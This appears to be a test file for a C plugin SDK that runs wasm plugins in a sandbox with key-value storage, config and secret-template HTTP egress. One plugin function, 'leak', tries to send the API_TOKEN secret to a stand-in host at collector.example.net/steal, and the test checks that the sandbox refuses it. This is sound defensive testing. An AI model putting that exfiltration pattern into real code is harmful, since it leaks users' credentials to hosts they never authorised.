// The C binding (sdk/pdk/c/tyrum_pdk.h): the example plugin of its README and a plugin exercising the
// rest of the header, compiled with clang --target=wasm32 -nostdlib and run in a real SandboxPool with
// key-value storage, config and an egress handler that fills secret templates.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { SandboxPool, sandboxReason } from '../../../sandbox/index.js';
import { codeBlocks, compileC, dec, enc, memoryKv, PDK_C, sha256, testEgress, type Reply } from './helpers.js';
import { skipWithoutClang } from '../../helpers/toolchain.js';

const PLUGIN = String.raw`
#include "tyrum_pdk.h"

static char buf[4096];

TYRUM_EXPORT(echo) int echo(void) {
  tyrum_size n = tyrum_input_read(buf, sizeof buf);
  if (n >= sizeof buf) return tyrum_error("input too large");
  static char out[8300];
  tyrum_json j = tyrum_json_init(out, sizeof out);
  tyrum_json_raw(&j, "{\"text\":");
  tyrum_json_strn(&j, buf, n);
  tyrum_json_raw(&j, ",\"length\":");
  tyrum_json_i64(&j, (tyrum_i64)tyrum_input_length());
  tyrum_json_raw(&j, ",\"min\":");
  tyrum_json_i64(&j, -9223372036854775807LL - 1);
  tyrum_json_raw(&j, ",\"flag\":");
  tyrum_json_bool(&j, 1);
  tyrum_json_byte(&j, '}');
  return tyrum_json_output(&j);
}

TYRUM_EXPORT(kv) int kv(void) {
  char v[64];
  tyrum_json j = tyrum_json_init(buf, sizeof buf);
  tyrum_json_raw(&j, "{\"absent\":");
  tyrum_json_i64(&j, tyrum_kv_get("k", v, sizeof v));
  tyrum_json_raw(&j, ",\"set\":");
  tyrum_json_i64(&j, tyrum_kv_set("k", "v\xc3\xa4lue", 6));
  int n = tyrum_kv_get("k", v, sizeof v);
  tyrum_json_raw(&j, ",\"got\":");
  tyrum_json_strn(&j, v, n < 0 ? 0 : (tyrum_size)n);
  static char big[4000];
  tyrum_json_raw(&j, ",\"too_big\":");
  tyrum_json_i64(&j, tyrum_kv_set("big", big, sizeof big));
  tyrum_json_raw(&j, ",\"cut\":");
  tyrum_json_i64(&j, tyrum_kv_get("k", v, 2));
  tyrum_json_raw(&j, ",\"deleted\":");
  tyrum_json_i64(&j, tyrum_kv_delete("k"));
  tyrum_json_raw(&j, ",\"gone\":");
  tyrum_json_i64(&j, tyrum_kv_get("k", v, sizeof v));
  tyrum_json_byte(&j, '}');
  return tyrum_json_output(&j);
}

TYRUM_EXPORT(post) int post(void) {
  char handle[32];
  if (tyrum_config_get("key_handle", handle, sizeof handle) < 0) return tyrum_error("key_handle is not set");
  char tmpl[96];
  if (tyrum_secret(handle, tmpl, sizeof tmpl) < 0) return tyrum_error("key_handle is not a secret handle name");
  tyrum_header h[] = {{"Content-Type", "application/json"}, {"X-Api-Key", tmpl}};
  tyrum_size n = tyrum_input_read(buf, sizeof buf);
  char body[256];
  tyrum_http_response res;
  if (tyrum_http_request("POST", "https://api.example.com/v1/items", h, 2, buf, n, body, sizeof body, &res) != 0) return tyrum_error("descriptor");
  char out[512];
  tyrum_json j = tyrum_json_init(out, sizeof out);
  tyrum_json_raw(&j, "{\"status\":");
  tyrum_json_i64(&j, res.status);
  tyrum_json_raw(&j, ",\"body\":");
  tyrum_json_strn(&j, body, (tyrum_size)res.length);
  tyrum_json_byte(&j, '}');
  return tyrum_json_output(&j);
}

TYRUM_EXPORT(leak) int leak(void) {
  tyrum_header h[] = {{"Authorization", "Bearer " TYRUM_SECRET("API_TOKEN")}};
  tyrum_http_response res;
  tyrum_http_get("https://collector.example.net/steal", h, 1, buf, sizeof buf, &res);
  return 0;
}

TYRUM_EXPORT(checks) int checks(void) {
  char small[8];
  tyrum_json j = tyrum_json_init(buf, sizeof buf);
  tyrum_json_raw(&j, "{\"bad_name\":");
  tyrum_json_i64(&j, tyrum_secret("api_token", small, sizeof small));
  tyrum_json_raw(&j, ",\"too_small\":");
  tyrum_json_i64(&j, tyrum_secret("API_TOKEN", small, sizeof small));
  tyrum_json_raw(&j, ",\"unset\":");
  tyrum_json_i64(&j, tyrum_config_get("nope", small, sizeof small));
  tyrum_json_raw(&j, ",\"escaped\":");
  tyrum_json_str(&j, "q\"b\\n\nt\t\x01");
  tyrum_json_byte(&j, '}');
  return tyrum_json_output(&j);
}

TYRUM_EXPORT(logs) int logs(void) {
  tyrum_log(TYRUM_LOG_TRACE, "t");
  tyrum_log(TYRUM_LOG_DEBUG, "d");
  tyrum_log(TYRUM_LOG_INFO, "i \xc3\xbc");
  tyrum_log(TYRUM_LOG_WARN, "w");
  tyrum_log(TYRUM_LOG_ERROR, "e");
  tyrum_output_str("{}");
  return 0;
}

TYRUM_EXPORT(failing) int failing(void) {
  return tyrum_error("nope: \xc3\xbc");
}

TYRUM_EXPORT(overflow) int overflow(void) {
  char small[4];
  tyrum_json j = tyrum_json_init(small, sizeof small);
  tyrum_json_raw(&j, "{\"much too long\":1}");
  return tyrum_json_output(&j);
}
`;

async function run(): Promise<void> {
  const work = mkdtempSync(join(tmpdir(), 'tyrum-pdk-c-'));
  t.teardown(() => rmSync(work, { recursive: true, force: true }));
  mkdirSync(join(work, 'src'));

  const example = codeBlocks(join(PDK_C, 'README.md'), 'c').find((b) => b.includes('TYRUM_EXPORT(status)'));
  if (example === undefined) throw new Error('sdk/pdk/c/README.md has no status example');
  writeFileSync(join(work, 'src', 'example.c'), example);
  writeFileSync(join(work, 'src', 'plugin.c'), PLUGIN);
  const [exampleWasm, pluginWasm] = await Promise.all([compileC(join(work, 'src', 'example.c'), join(work, 'build', 'example.wasm')), compileC(join(work, 'src', 'plugin.c'), join(work, 'build', 'plugin.wasm'))]);

  const TOKEN = 'c-tok-91be-secret-value';
  const OTHER = 'c-other-55aa-secret-value';
  const egress = testEgress(
    ['api.example.com', 'collector.example.net'],
    { API_TOKEN: { value: TOKEN, destinations: ['api.example.com'] }, OTHER_KEY: { value: OTHER, destinations: ['api.example.com'] } },
    (r): Reply => {
      if (r.url.endsWith('/v1/status')) return { status: 200, body: JSON.stringify({ up: true, authorized: r.headers['Authorization'] === `Bearer ${TOKEN}` }) };
      if (r.url.endsWith('/v1/items')) return { status: 201, body: JSON.stringify({ created: JSON.parse(r.body ?? 'null'), key_ok: r.headers['X-Api-Key'] === OTHER }) };
      return { status: 404, body: '{}' };
    },
  );
  const kv = memoryKv(1024);
  const pool = new SandboxPool({ workers: 1 });
  t.teardown(() => pool.close());
  const exampleInfo = await pool.load('c-example', {
    wasm: exampleWasm,
    expectedSha256: sha256(exampleWasm),
    exports: ['status'],
    config: { base_url: 'https://api.example.com' },
    hostApi: { kv, egress },
  });
  const EXPORTS = ['echo', 'kv', 'post', 'leak', 'checks', 'logs', 'failing', 'overflow'];
  await pool.load('c-plugin', {
    wasm: pluginWasm,
    expectedSha256: sha256(pluginWasm),
    exports: EXPORTS,
    config: { key_handle: 'OTHER_KEY' },
    hostApi: { kv: memoryKv(1024), egress },
    logLevel: 'trace',
  });
  const call = async (key: string, fn: string, input: unknown = {}) => {
    const r = await pool.call(key, fn, enc(input));
    return { out: dec(r.output), logs: r.logs };
  };
  const failure = (fn: string) => pool.call('c-plugin', fn, enc({})).then(() => null, (e: unknown) => e as Error);

  t.test('the README example: config, kv, log and an HTTP request with a secret template', async (t) => {
    t.same(exampleInfo.imports.filter((i) => i.startsWith('tyrum:')).sort(), ['tyrum:host/v1.kv_get', 'tyrum:host/v1.kv_set', 'tyrum:host/v1.log']);
    t.notOk(exampleInfo.imports.some((i) => i.startsWith('env.')), 'no libc or env imports');
    const first = await call('c-example', 'status');
    t.same(JSON.parse(first.out), { calls: 1, status: 200, body: JSON.stringify({ up: true, authorized: true }) });
    t.same(first.logs, [{ level: 'info', message: 'API is up' }]);
    t.same(JSON.parse((await call('c-example', 'status')).out).calls, 2, 'state kept in the key-value store between calls');
    t.equal(dec(kv.data.get('calls')!), '2');
    const sent = egress.seen.at(-1)!;
    t.equal(sent.url, 'https://api.example.com/v1/status');
    t.same(sent.headers, { Accept: 'application/json', Authorization: 'Bearer {{secret:API_TOKEN}}' }, 'the plugin sent the template, never the value');
    t.equal(egress.received.at(-1)!.headers['Authorization'], `Bearer ${TOKEN}`, 'the server received the value');
  });

  t.test('input and output are UTF-8 bytes; JSON is escaped', async (t) => {
    const text = 'Crème "brûlée" 😀\n你好';
    const raw = (await call('c-plugin', 'echo', text)).out;
    t.same(JSON.parse(raw), { text, length: Buffer.byteLength(text), min: -(2 ** 63), flag: true });
    t.match(raw, '"min":-9223372036854775808,', 'the most negative 64-bit integer, exactly');
    const checks = JSON.parse((await call('c-plugin', 'checks')).out);
    t.same(checks, { bad_name: -1, too_small: -1, unset: -1, escaped: 'q"b\\n\nt\t\u0001' });
  });

  t.test('kv_get, kv_set (1 on quota), kv_delete', async (t) => {
    t.same(JSON.parse((await call('c-plugin', 'kv')).out), { absent: -1, set: 0, got: 'välue', too_big: 1, cut: 6, deleted: 0, gone: -1 });
  });

  t.test('http_request with a body and a secret template named at run time (config)', async (t) => {
    const r = JSON.parse((await call('c-plugin', 'post', { n: 1 })).out);
    t.equal(r.status, 201);
    t.same(JSON.parse(r.body), { created: { n: 1 }, key_ok: true });
    t.same(egress.seen.at(-1)!.headers, { 'Content-Type': 'application/json', 'X-Api-Key': '{{secret:OTHER_KEY}}' });
    t.equal(egress.seen.at(-1)!.method, 'POST');
  });

  t.test('a secret toward a host it is not bound to is refused', async (t) => {
    const e = await failure('leak');
    t.equal(sandboxReason(e), 'capability_denied');
    t.match(e?.message, 'secret handle API_TOKEN may not be sent to collector.example.net');
  });

  t.test('logs, errors and an output buffer too small', async (t) => {
    t.same((await call('c-plugin', 'logs')).logs.map((l) => [l.level, l.message]), [
      ['trace', 't'],
      ['debug', 'd'],
      ['info', 'i ü'],
      ['warn', 'w'],
      ['error', 'e'],
    ]);
    const e = await failure('failing');
    t.equal(sandboxReason(e), 'plugin_error');
    t.match(e?.message, 'nope: ü');
    const o = await failure('overflow');
    t.equal(sandboxReason(o), 'plugin_error');
    t.match(o?.message, 'the JSON buffer is too small');
  });
}

const skip = skipWithoutClang();
if (skip !== false) {
  t.test('C plugins', { skip }, async () => {});
} else {
  await run();
}
